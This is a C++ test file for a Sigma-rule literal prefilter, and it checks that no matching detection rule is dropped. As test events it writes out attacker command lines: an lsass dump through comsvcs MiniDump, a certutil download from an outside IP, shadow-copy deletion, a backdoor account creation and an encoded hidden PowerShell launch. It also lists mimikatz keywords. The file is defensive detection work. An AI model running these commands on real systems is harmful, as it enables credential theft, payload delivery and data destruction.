// Required literals and the literal prefilter: a rule the prefilter leaves
// out must not match. Held on handmade rules, and on the SigmaHQ
// process-creation rules over events that fire some of them.
#include <filesystem>

#include "catch.hpp"
#include "sigma/literal_prefilter.hpp"
#include "sigma_test_support.hpp"

namespace sigma = evtxcar::sigma;
using sigma::testing::map_event;
using sigma::testing::numbering_resolver;

namespace {

std::string rule_text(const std::string& title, const std::string& detection) {
    return "title: " + title + "\nlogsource:\n    product: windows\n    category: process_creation\ndetection:\n" + detection + "---\n";
}

// Every rule that matches `event` is a candidate.
void check_no_rule_lost(const sigma::rule_set& rules, const sigma::literal_prefilter& prefilter,
                        const std::vector<const sigma::compiled_rule*>& list, const sigma::event_view& event,
                        std::size_t& matched) {
    std::vector<std::uint32_t> candidates;
    prefilter.candidates(event, candidates);
    for (std::uint32_t i = 0; i < list.size(); ++i) {
        if (!list[i]->matches(event)) continue;
        ++matched;
        INFO("rule " << list[i]->metadata().title << " matches but is no candidate");
        CHECK(std::binary_search(candidates.begin(), candidates.end(), i));
    }
    (void)rules;
}

}  // namespace

TEST_CASE("required literals of a rule", "[sigma]") {
    numbering_resolver resolver;
    const sigma::rule_set rules = sigma::load_rules_from_text(
        rule_text("img and cli", "    img:\n        Image|endswith:\n            - '\\Rundll32.exe'\n            - '\\regsvr32.exe'\n"
                                 "    cli:\n        CommandLine|contains: 'x'\n    condition: img and cli\n") +
        rule_text("negated", "    s:\n        Image|endswith: '\\a.exe'\n    condition: not s\n") +
        rule_text("or without literal", "    a:\n        Image|endswith: '\\a.exe'\n    b:\n        CommandLine|re: 'x+'\n    condition: a or b\n") +
        rule_text("glob", "    s:\n        CommandLine: '*net?? user *'\n    condition: s\n"),
        "r.yml", sigma::testing::any_product(), resolver);
    REQUIRE(rules.rules.size() == 4);
    const auto& first = rules.rules[0].required_literals();
    REQUIRE(first.has_value());
    REQUIRE(first->size() == 2);  // the suffixes, longer than the one-letter contains
    std::vector<std::string> texts;
    for (const auto& literal : *first) {
        texts.push_back(literal.text);
        CHECK(literal.shape == sigma::string_matcher::shape::suffix);
    }
    std::sort(texts.begin(), texts.end());
    CHECK(texts == std::vector<std::string>{"\\regsvr32.exe", "\\rundll32.exe"});  // folded
    CHECK_FALSE(rules.rules[1].required_literals().has_value());
    CHECK_FALSE(rules.rules[2].required_literals().has_value());
    REQUIRE(rules.rules[3].required_literals().has_value());
    CHECK((*rules.rules[3].required_literals())[0].text == " user ");
}

TEST_CASE("the prefilter keeps every rule that can match", "[sigma]") {
    numbering_resolver resolver;
    const sigma::rule_set rules = sigma::load_rules_from_text(
        rule_text("exact", "    s:\n        Image: 'C:\\Windows\\cmd.exe'\n    condition: s\n") +
        rule_text("prefix", "    s:\n        CommandLine|startswith: 'net '\n    condition: s\n") +
        rule_text("suffix", "    s:\n        Image|endswith: '\\whoami.exe'\n    condition: s\n") +
        rule_text("long contains", "    s:\n        CommandLine|contains: 'sekurlsa'\n    condition: s\n") +
        rule_text("short contains", "    s:\n        CommandLine|contains: '-e'\n    condition: s\n") +
        rule_text("no literal", "    s:\n        CommandLine|re: 'a+b'\n    condition: s\n") +
        rule_text("cased", "    s:\n        CommandLine|cased|contains: 'MiMi'\n    condition: s\n") +
        rule_text("localized", "    s:\n        User|endswith: '\\Système'\n    condition: s\n"),
        "r.yml", sigma::testing::any_product(), resolver);
    REQUIRE(rules.rules.size() == 8);
    std::vector<const sigma::compiled_rule*> list;
    for (const auto& rule : rules.rules) list.push_back(&rule);
    const sigma::literal_prefilter prefilter(list);
    CHECK(prefilter.indexed() == 7);
    CHECK(prefilter.unindexed() == 1);

    auto candidates_of = [&](std::map<std::string, std::string> fields) {
        std::vector<std::uint32_t> out;
        prefilter.candidates(map_event(resolver, std::move(fields)), out);
        return out;
    };
    CHECK(candidates_of({{"Image", "c:\\windows\\CMD.EXE"}}) == std::vector<std::uint32_t>{0, 5});
    CHECK(candidates_of({{"CommandLine", "NET user x"}}) == std::vector<std::uint32_t>{1, 5});
    CHECK(candidates_of({{"Image", "C:\\x\\WhoAmI.exe"}}) == std::vector<std::uint32_t>{2, 5});
    CHECK(candidates_of({{"CommandLine", "mimikatz SEKURLSA::logonpasswords"}}) == std::vector<std::uint32_t>{3, 5, 6});
    CHECK(candidates_of({{"CommandLine", "ps -E x"}}) == std::vector<std::uint32_t>{4, 5});
    CHECK(candidates_of({{"Other", "sekurlsa"}}) == std::vector<std::uint32_t>{5});
    CHECK(candidates_of({{"User", "AUTORITE NT\\SYSTÈME"}}) == std::vector<std::uint32_t>{5, 7});  // folded as the matchers fold

    std::size_t matched = 0;
    for (const auto& fields : std::vector<std::map<std::string, std::string>>{
             {{"Image", "C:\\Windows\\cmd.exe"}, {"CommandLine", "net user -e sekurlsa MiMi aab"}},
             {{"Image", "C:\\Windows\\System32\\whoami.exe"}, {"CommandLine", "whoami"}, {"User", "AUTORITE NT\\SYSTÈME"}}})
        check_no_rule_lost(rules, prefilter, list, map_event(resolver, fields), matched);
    CHECK(matched == 8);
}

TEST_CASE("the prefilter keeps every SigmaHQ process_creation rule that matches", "[sigma][sigmahq]") {
    const std::filesystem::path root = std::filesystem::path(EVTXCAR_SHARED_DIR) / "sigma" / "rules" / "windows";
    if (!std::filesystem::is_directory(root)) {
        WARN("../shared/sigma is absent: SigmaHQ prefilter test skipped");
        return;
    }
    numbering_resolver resolver;
    const sigma::rule_set rules = sigma::load_rules({root / "process_creation"}, sigma::load_options{}, resolver);
    std::vector<const sigma::compiled_rule*> list;
    for (const auto& rule : rules.rules) list.push_back(&rule);
    const sigma::literal_prefilter prefilter(list);
    CHECK(prefilter.indexed() > list.size() * 9 / 10);

    // Command lines of the kind these rules look for, written for this test.
    const std::vector<std::map<std::string, std::string>> events{
        {{"Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"}, {"OriginalFileName", "PowerShell.EXE"},
         {"CommandLine", "powershell.exe -NoP -w hidden -ExecutionPolicy Bypass -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIAA="},
         {"ParentImage", "C:\\Windows\\System32\\cmd.exe"}, {"User", "CORP\\alice"}, {"IntegrityLevel", "High"}},
        {{"Image", "C:\\Windows\\System32\\rundll32.exe"}, {"OriginalFileName", "RUNDLL32.EXE"},
         {"CommandLine", "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Users\\Public\\lsass.dmp full"},
         {"ParentImage", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"}},
        {{"Image", "C:\\Windows\\System32\\certutil.exe"}, {"OriginalFileName", "CertUtil.exe"},
         {"CommandLine", "certutil.exe -urlcache -split -f http://203.0.113.9/a.exe C:\\Users\\Public\\a.exe"},
         {"ParentImage", "C:\\Windows\\System32\\cmd.exe"}},
        {{"Image", "C:\\Windows\\System32\\vssadmin.exe"}, {"OriginalFileName", "VSSADMIN.EXE"},
         {"CommandLine", "vssadmin.exe delete shadows /all /quiet"}, {"ParentImage", "C:\\Windows\\System32\\cmd.exe"}},
        {{"Image", "C:\\Windows\\System32\\net.exe"}, {"OriginalFileName", "net.exe"},
         {"CommandLine", "net user backdoor P@ssw0rd /add"}, {"ParentImage", "C:\\Windows\\System32\\cmd.exe"}},
    };
    std::size_t matched = 0;
    for (const auto& fields : events) check_no_rule_lost(rules, prefilter, list, map_event(resolver, fields), matched);
    CHECK(matched >= 5);  // the events do fire rules, so the check above means something
}

TEST_CASE("keyword searches are indexed by their literals in every value", "[sigma]") {
    numbering_resolver resolver;
    const std::string keywords_rule =
        "title: keywords\nlogsource:\n    product: windows\ndetection:\n    keywords:\n        - 'sekurlsa::'\n"
        "        - 'mimidrv.sys'\n    filter:\n        EventID: 15\n    condition: keywords and not filter\n---\n"
        "title: all keywords\nlogsource:\n    product: windows\ndetection:\n    keywords:\n        '|all':\n"
        "            - 'net'\n            - 'localgroup'\n    condition: keywords\n---\n"
        "title: keyword regex\nlogsource:\n    product: windows\ndetection:\n    keywords:\n        '|re': 'a+b'\n"
        "    condition: keywords\n---\n"
        "title: negated keywords\nlogsource:\n    product: windows\ndetection:\n    keywords:\n        - 'x'\n"
        "    condition: not keywords\n---\n";
    const sigma::rule_set rules = sigma::load_rules_from_text(keywords_rule, "k.yml", sigma::testing::any_product(), resolver);
    REQUIRE(rules.rules.size() == 4);
    const auto& first = rules.rules[0].required_literals();
    REQUIRE(first.has_value());
    std::vector<std::string> texts;
    for (const auto& literal : *first) {
        CHECK(literal.field == sigma::any_value_field);
        CHECK(literal.shape == sigma::string_matcher::shape::contains);
        texts.push_back(literal.text);
    }
    CHECK(texts == std::vector<std::string>{"mimidrv.sys", "sekurlsa::"});
    REQUIRE(rules.rules[1].required_literals().has_value());
    CHECK((*rules.rules[1].required_literals())[0].text == "localgroup");  // the longer of the two, both needed
    CHECK_FALSE(rules.rules[2].required_literals().has_value());
    CHECK_FALSE(rules.rules[3].required_literals().has_value());

    std::vector<const sigma::compiled_rule*> list;
    for (const auto& rule : rules.rules) list.push_back(&rule);
    const sigma::literal_prefilter prefilter(list);
    CHECK(prefilter.indexed() == 2);
    auto candidates_of = [&](std::map<std::string, std::string> fields) {
        std::vector<std::uint32_t> out;
        prefilter.candidates(map_event(resolver, std::move(fields)), out);
        return out;
    };
    // Found in any field, folded; not found: only the unindexed rules remain.
    CHECK(candidates_of({{"Payload", "mimikatz SEKURLSA::LogonPasswords"}}) == std::vector<std::uint32_t>{0, 2, 3});
    CHECK(candidates_of({{"Image", "a.exe"}, {"ServiceFileName", "C:\\Windows\\MimiDrv.sys"}}) == std::vector<std::uint32_t>{0, 2, 3});
    CHECK(candidates_of({{"CommandLine", "net LocalGroup administrators"}}) == std::vector<std::uint32_t>{1, 2, 3});
    CHECK(candidates_of({{"CommandLine", "net user"}}) == std::vector<std::uint32_t>{2, 3});

    std::size_t matched = 0;
    for (const auto& fields : std::vector<std::map<std::string, std::string>>{
             {{"A", "privilege::debug sekurlsa::x"}, {"B", "net"}, {"C", "x localgroup"}, {"EventID", "1"}},
             {{"A", "aab"}, {"EventID", "15"}, {"C", "c:\\mimidrv.sys"}}})
        check_no_rule_lost(rules, prefilter, list, map_event(resolver, fields), matched);
    CHECK(matched == 4);  // keywords and all keywords on the first; the regex and not-x on the second (EventID 15 filters)
}
